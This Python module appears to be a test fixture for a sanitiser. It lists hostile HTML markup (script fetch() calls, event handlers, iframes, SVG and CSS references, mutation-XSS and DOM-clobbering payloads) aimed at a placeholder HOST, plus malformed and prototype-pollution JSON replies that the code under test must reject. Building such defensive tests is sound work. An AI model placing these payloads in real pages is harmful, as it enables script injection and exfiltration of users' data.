"""What a turned core may answer: markup that would reach elsewhere, and shapes nobody expects.

``HOST`` stands for the place elsewhere. Each reply is JSON text, as it would cross the bridge.
"""

import json

__all__ = ["MARKUPS", "REPLIES", "SHAPES"]

MARKUPS = {
    "image": '<img src="http://HOST/reply/x.gif">',
    "image set": '<img srcset="http://HOST/reply/x.gif 1x">',
    "picture": '<picture><source srcset="http://HOST/reply/x.gif"><img></picture>',
    "style sheet": '<link rel="stylesheet" href="http://HOST/reply/x.css">',
    "prefetch": '<link rel="prefetch" href="http://HOST/reply/x.js">',
    "preload": '<link rel="preload" as="image" href="http://HOST/reply/x.gif">',
    "preconnect": '<link rel="preconnect" href="http://HOST/">',
    "name lookup": '<link rel="dns-prefetch" href="http://HOST/">',
    "icon": '<link rel="icon" href="http://HOST/reply/x.gif">',
    "style with import": '<style>@import "http://HOST/reply/x.css";</style>',
    "style with picture": '<style>p { background: url("http://HOST/reply/x.gif") }</style><p>x',
    "style attribute": "<p style=\"background: url('http://HOST/reply/x.gif')\">x</p>",
    "background attribute": '<table background="http://HOST/reply/x.gif"><tr><td>x</table>',
    "form": '<form action="http://HOST/reply"><input autofocus name="x"></form>',
    "button of a form": '<button form="pat-assess" formaction="http://HOST/reply">x</button>',
    "field": '<input name="1A" value="4" type="radio" checked>',
    "meta refresh": '<p>x</p><meta http-equiv="refresh" content="0;url=http://HOST/reply">',
    "base": '<p>x</p><base href="http://HOST/reply/">',
    "frame": '<iframe src="http://HOST/reply/x.html"></iframe>',
    "frame with text": "<iframe srcdoc=\"<img src='http://HOST/reply/x.gif'>\"></iframe>",
    "object": '<object data="http://HOST/reply/x.svg"></object>',
    "embed": '<embed src="http://HOST/reply/x.svg">',
    "video": '<video src="http://HOST/reply" poster="http://HOST/reply/x.gif" autoplay></video>',
    "audio": '<audio src="http://HOST/reply" autoplay></audio>',
    "track": '<video><track src="http://HOST/reply" default></video>',
    "script": '<script src="http://HOST/reply/x.js"></script>',
    "script with text": '<p>x</p><script>fetch("http://HOST/reply")</script>',
    "speculation rules": '<p>x</p><script type="speculationrules">{"prefetch": []}</script>',
    "link": '<a href="http://HOST/reply">x</a>',
    "link with ping": '<a href="#x" ping="http://HOST/reply">x</a>',
    "script address": "<a href=\"javascript:fetch('http://HOST/reply')\">x</a>",
    "area": '<map name="x"><area href="http://HOST/reply"></map>',
    "handler": "<svg onload=\"fetch('http://HOST/reply')\"></svg>",
    "handler of a fold": "<details open ontoggle=\"fetch('http://HOST/reply')\">x</details>",
    "SVG image": '<svg><image href="http://HOST/reply/x.gif" width="9" height="9"/></svg>',
    "SVG use": '<svg><use href="http://HOST/reply/x.svg#a"/></svg>',
    "SVG use with xlink": '<svg><use xlink:href="http://HOST/reply/x.svg#a"/></svg>',
    "SVG link": '<svg><a href="http://HOST/reply"><text y="9">x</text></a></svg>',
    "SVG filter": '<svg><filter id="f"><feImage href="http://HOST/reply/x.gif"/></filter></svg>',
    "SVG animation": '<svg><set attributeName="fill" to="url(http://HOST/reply/x.svg#a)"/></svg>',
    "SVG script": '<svg><script href="http://HOST/reply/x.js"/></svg>',
    "SVG style": '<svg><style>@import "http://HOST/reply/x.css";</style></svg>',
    "SVG foreign object": '<svg><foreignObject><img src="http://HOST/reply"></foreignObject></svg>',
    "paint from elsewhere": '<svg><rect fill="url(http://HOST/reply/x.svg#a)" width="9"/></svg>',
    "stroke from elsewhere": '<svg><path stroke="url(//HOST/reply/x.svg#a)" d="M0 0"/></svg>',
    "mask from elsewhere": '<svg><rect mask="url(http://HOST/reply/x.svg#a)"/></svg>',
    "cursor": '<svg><rect cursor="url(http://HOST/reply/x.gif), auto"/></svg>',
    "MathML": '<math><mtext href="http://HOST/reply">x</mtext></math>',
    "MathML action": '<math><maction actiontype="statusline" xlink:href="http://HOST/">x</maction></math>',
    "template": '<template><img src="http://HOST/reply/x.gif"></template>',
    "shadow": '<div><template shadowrootmode="open"><img src="http://HOST/reply"></template></div>',
    "slot": '<slot name="x"></slot>',
    "custom element": "<x-y></x-y>",
    "custom built-in": '<p is="x-y">x</p>',
    "noscript": '<noscript><img src="http://HOST/reply/x.gif"></noscript>',
    "comment that ends oddly": '<!--><img src="http://HOST/reply/x.gif">-->',
    "mutating markup": '<svg></p><title><p title="</title><img src=http://HOST/reply/x.gif>">',
    "dialog": "<dialog open>Your session is over</dialog>",
    "popover": '<div popover id="p">x</div>',
    "popover button": '<button popovertarget="p">x</button>',
    "editable": "<p contenteditable>x</p>",
    "key": '<p accesskey="x" tabindex="1">x</p>',
    "action of ours": '<span data-action="confirm-erase">Show the rest</span>',
    "module of ours": '<div data-module="assessment"></div>',
    "field of the desk": "<div data-options>x</div>",
    "id of ours": '<p id="pat-result">x</p>',
    "id that hides a property": '<p id="trustedTypes">x</p>',
    "class of the theme": '<div class="md-overlay">x</div>',
    "name": '<p name="patForm">x</p>',
    "text direction": '<p dir="rtl">x</p>',
    "text beside": "x</body><body onload=\"fetch('http://HOST/reply')\">",
    "head of its own": '<html manifest="http://HOST/reply"><head><title>x</title></head><body>x',
}
"""Each must be refused; all but the last few ask a browser to reach elsewhere."""

SHAPES = {
    "an object for the text": '{"ok": {"html": {"toString": "x"}, "profile": {}, "code": ""}}',
    "a list for the text": '{"ok": {"html": ["<p>x</p>"], "profile": {}, "code": ""}}',
    "a number for the text": '{"ok": {"html": 7, "profile": {}, "code": ""}}',
    "no text": '{"ok": {"profile": {}}}',
    "nothing": '{"ok": null}',
    "a text for all": '{"ok": "x"}',
    "an object for the code": '{"ok": {"html": "<p>x</p>", "code": {"length": 1}}}',
    "prototype": '{"__proto__": {"ok": {"html": "<p>x</p>"}}, "constructor": {"prototype": {}}}',
    "prototype in the reply": '{"ok": {"__proto__": {"html": "<p>x</p>"}}}',
    "neither": "{}",
    "both": '{"ok": {"html": "<p>x</p>"}, "error": {"name": "X", "message": "<img src=x>"}}',
    "no words in the error": '{"error": {"name": {}, "message": {"a": 1}}}',
    "an error that is true": '{"error": true}',
    "a cause that is none": '{"error": {"name": "X", "message": "x", "cause": "constructor"}}',
    "no JSON": "<img src=http://HOST/reply>",
    "not even text": "7",
    "a list": "[]",
    "null": "null",
}
"""Each must become a sentence, and leave the page as usable as before."""


def _reply(markup: str) -> str:
    return json.dumps({"ok": {"html": markup, "profile": {}, "code": ""}})


REPLIES = {f"markup {name}": _reply(markup) for name, markup in MARKUPS.items()} | {
    f"shape {name}": text for name, text in SHAPES.items()
}
"""All of them, by the word that asks the turned core for one."""
